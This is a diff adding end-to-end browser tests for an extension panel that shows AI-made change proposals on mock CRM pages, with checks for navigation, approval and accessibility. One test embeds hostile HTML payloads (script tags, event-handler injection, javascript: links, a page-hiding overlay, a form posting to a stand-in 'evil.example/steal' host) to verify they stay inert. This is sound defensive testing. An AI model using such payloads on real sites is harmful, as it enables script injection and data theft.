@@ -1,0 +1,226 @@
+/**
+ * Issue 6 in real Chromium with the production build: the panel on each platform's
+ * look-alike pages shows the right proposals, follows SPA navigation, gets approvals to the
+ * server, keeps hostile AI HTML inert, and passes axe.
+ */
+import { readFileSync } from "node:fs"
+import { createRequire } from "node:module"
+import type { Page } from "playwright-core"
+import { afterAll, beforeAll, describe, expect, it } from "vitest"
+import { detectEntity } from "~src/context/detect-entity"
+import type { Platform } from "~src/domain"
+import { DEMO_URLS } from "../../scripts/demo-data"
+import { pollUntil } from "../support/browser"
+import { HUBSPOT_CONTACT_101, proposalFor, startE2ESession, type E2ESession } from "../support/e2e-session"
+import { action, gotoWithPanel, openPanel, openProposal, panel, proposalCard } from "../support/panel"
+
+const axeSource = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8")
+
+interface AxeViolation {
+  id: string
+  impact: string | null
+  help: string
+  nodes: Array<{ target: unknown[] }>
+}
+
+/**
+ * Serious and critical axe violations on the page. `insideShadowOnly` keeps those whose node is
+ * inside a shadow root (the panel) and ignores the look-alike host page's own markup.
+ * Evaluated through CDP, which extension pages' CSP does not block (unlike a script tag).
+ */
+export async function seriousAxeViolations(page: Page, { insideShadowOnly = false } = {}): Promise<string[]> {
+  await page.evaluate(axeSource)
+  const violations = (await page.evaluate(async () => {
+    const axe = (window as unknown as { axe: { run: (ctx: unknown, opts: unknown) => Promise<{ violations: unknown[] }> } }).axe
+    const result = await axe.run(document, { iframes: false, resultTypes: ["violations"] })
+    return result.violations
+  })) as AxeViolation[]
+  return violations
+    .filter((v) => v.impact === "serious" || v.impact === "critical")
+    .map((v) => ({ ...v, nodes: insideShadowOnly ? v.nodes.filter((n) => Array.isArray(n.target[0])) : v.nodes }))
+    .filter((v) => v.nodes.length > 0)
+    .map((v) => `${v.impact} ${v.id}: ${v.help} (${v.nodes.map((n) => JSON.stringify(n.target)).join(", ")})`)
+}
+
+const PLATFORM_PAGES: Array<{ platform: Platform; url: string }> = [
+  { platform: "hubspot", url: DEMO_URLS.hubspotContact },
+  { platform: "marketo", url: DEMO_URLS.marketoEmail },
+  { platform: "salesforce", url: DEMO_URLS.salesforceLead },
+  { platform: "pardot", url: DEMO_URLS.pardotProspect },
+  { platform: "dynamics", url: DEMO_URLS.dynamicsContact }
+]
+
+/** The target an agent would name for a URL, read with the extension's own detectors. */
+function targetFor(url: string) {
+  const entity = detectEntity(url)
+  if (!entity) throw new Error(`no detector recognises ${url}`)
+  return { platform: entity.platform, kind: entity.kind, id: entity.id, url }
+}
+
+describe("the panel on each platform", () => {
+  let session: E2ESession
+
+  beforeAll(async () => {
+    session = await startE2ESession()
+  })
+
+  afterAll(async () => {
+    await session?.close()
+  })
+
+  it.each(PLATFORM_PAGES)("$platform: shows the page's proposal, follows SPA navigation to the next entity, and approves", async ({ url }) => {
+    const page = await session.browser.context.newPage()
+    const here = await session.agent.createProposal(proposalFor(targetFor(url), { title: "For the first entity" }))
+    await page.goto(url)
+    const nextLink = page.locator('a[data-fixture-nav="next"]:visible').first()
+    const nextUrl = new URL((await nextLink.getAttribute("href")) ?? "", page.url()).toString()
+    const there = await session.agent.createProposal(proposalFor(targetFor(nextUrl), { title: "For the next entity" }))
+    await session.syncNow()
+
+    await gotoWithPanel(page, url)
+    await openPanel(page)
+    await proposalCard(page, here.id).waitFor({ state: "visible", timeout: 20_000 })
+    expect(await proposalCard(page, there.id).count()).toBe(0)
+
+    const clickedAt = Date.now()
+    // The host's own router handles the click (pushState / hash / a full load on Pardot).
+    await nextLink.evaluate((a: HTMLAnchorElement) => a.click())
+    await expect.poll(() => page.url()).not.toBe(url)
+    await openPanel(page) // still open after SPA navigation; reopened after Pardot's full page load
+    await proposalCard(page, there.id).waitFor({ state: "visible", timeout: 10_000 })
+    // Reported, not asserted (2 shared cores): the issue's target is under a second.
+    console.log(`${url.split("/")[2]}: panel switched ${Date.now() - clickedAt} ms after the click`)
+    await expect.poll(() => proposalCard(page, here.id).count()).toBe(0)
+
+    const card = await openProposal(page, there.id)
+    await action(card, "Approve").click()
+    await pollUntil(async () => (await session.reviewer.getProposal(there.id)).status === "approved", "the approval to reach the server")
+    await page.close()
+  })
+})
+
+describe("hostile HTML in a content proposal", () => {
+  let session: E2ESession
+
+  beforeAll(async () => {
+    session = await startE2ESession()
+  })
+
+  afterAll(async () => {
+    await session?.close()
+  })
+
+  it("runs nothing in the host page or the panel and leaves the host layout untouched", async () => {
+    const hostile = [
+      "<p>Spring offer</p>",
+      "<script>window.__signoffPwned = 'script'</script>",
+      `<img src="x" onerror="window.__signoffPwned = 'onerror'; parent.__signoffPwned = 'onerror'">`,
+      `<a href="javascript:parent.__signoffPwned='javascript-link'" id="js-link">Claim now</a>`,
+      `<svg onload="parent.__signoffPwned='svg'"></svg>`,
+      `<iframe src="javascript:parent.__signoffPwned='iframe'"></iframe>`,
+      `<div style="position:fixed;inset:0;z-index:2147483647;background:red">overlay</div>`,
+      "<style>body, html { display: none !important } * { visibility: hidden }</style>",
+      `<form action="https://evil.example/steal"><input name="q" autofocus onfocus="parent.__signoffPwned='onfocus'"></form>`
+    ].join("\n")
+    const proposal = await session.agent.createProposal(
+      proposalFor(HUBSPOT_CONTACT_101, {
+        title: "Hostile email body",
+        change: { kind: "content", field: "body", format: "html", before: "<p>Spring offer</p>", after: hostile }
+      })
+    )
+    await session.syncNow()
+
+    const page = await session.browser.context.newPage()
+    const dialogs: string[] = []
+    page.on("dialog", (dialog) => {
+      dialogs.push(dialog.message())
+      void dialog.dismiss()
+    })
+    await gotoWithPanel(page, HUBSPOT_CONTACT_101.url)
+    const layoutBefore = await hostLayout(page)
+
+    await openPanel(page)
+    const card = await openProposal(page, proposal.id)
+    await card.locator("iframe").first().waitFor({ state: "attached", timeout: 10_000 })
+    await page.waitForTimeout(1_000) // give any injected handler (onerror, onload, autofocus) its chance to fire
+
+    // Try the link too, the way a reviewer would.
+    const preview = card.locator("iframe").first()
+    const frame = await (await preview.elementHandle())?.contentFrame()
+    if (frame) await frame.locator("a").first().click({ timeout: 2_000 }).catch(() => undefined)
+    await page.waitForTimeout(300)
+
+    expect(await page.evaluate(() => (window as unknown as { __signoffPwned?: string }).__signoffPwned)).toBeUndefined()
+    expect(dialogs).toEqual([])
+
+    // The preview is a sandbox without scripts; its document holds no executable markup.
+    const sandbox = await preview.getAttribute("sandbox")
+    expect(sandbox).not.toBeNull()
+    expect(sandbox).not.toMatch(/allow-scripts/)
+    if (frame) {
+      const html = await frame.content()
+      expect(html).not.toMatch(/<script|onerror=|onload=|onfocus=|javascript:/i)
+    }
+
+    // Nothing from the AI HTML reached the host DOM or the panel's own DOM.
+    const leaks = await page.evaluate(() => {
+      const roots: Array<Document | ShadowRoot> = [document]
+      for (const el of document.querySelectorAll("*")) if (el.shadowRoot) roots.push(el.shadowRoot)
+      return roots.flatMap((root) =>
+        [...root.querySelectorAll("script, [onerror], [onload], [onfocus], a[href^='javascript:'], form[action*='evil']")]
+          .filter((el) => el.tagName !== "SCRIPT" || el.textContent?.includes("__signoffPwned"))
+          .map((el) => el.outerHTML.slice(0, 120))
+      )
+    })
+    expect(leaks).toEqual([])
+
+    const layoutAfter = await hostLayout(page)
+    expect(layoutAfter).toEqual(layoutBefore)
+    await page.close()
+  })
+})
+
+/** Where the host's own landmarks are, and whether its page is still visible and clickable. */
+async function hostLayout(page: Page) {
+  return page.evaluate(() => {
+    const box = (selector: string) => {
+      const r = document.querySelector(selector)?.getBoundingClientRect()
+      return r ? [Math.round(r.x), Math.round(r.y), Math.round(r.width), Math.round(r.height)] : null
+    }
+    const action = document.querySelector('[data-fixture="primary-action"]')!.getBoundingClientRect()
+    const topmost = document.elementFromPoint(action.x + action.width / 2, action.y + action.height / 2)
+    return {
+      primaryAction: box('[data-fixture="primary-action"]'),
+      title: box('[data-fixture="entity-title"]'),
+      bodyDisplay: getComputedStyle(document.body).display,
+      bodyVisibility: getComputedStyle(document.body).visibility,
+      rootFontSize: getComputedStyle(document.documentElement).fontSize,
+      primaryActionOnTop: topmost?.closest('[data-fixture="primary-action"]') !== null
+    }
+  })
+}
+
+describe("accessibility of the open panel", () => {
+  let session: E2ESession
+
+  beforeAll(async () => {
+    session = await startE2ESession()
+  })
+
+  afterAll(async () => {
+    await session?.close()
+  })
+
+  it("has no serious or critical axe violations with a proposal open", async () => {
+    const proposal = await session.agent.createProposal(proposalFor(HUBSPOT_CONTACT_101, { risk: { customerData: true } }))
+    await session.syncNow()
+    const page = await session.browser.context.newPage()
+    await gotoWithPanel(page, HUBSPOT_CONTACT_101.url)
+    await openPanel(page)
+    await openProposal(page, proposal.id)
+    await panel(page).waitFor({ state: "visible" })
+    const violations = await seriousAxeViolations(page, { insideShadowOnly: true })
+    expect(violations, violations.join("\n")).toEqual([])
+    await page.close()
+  })
+})
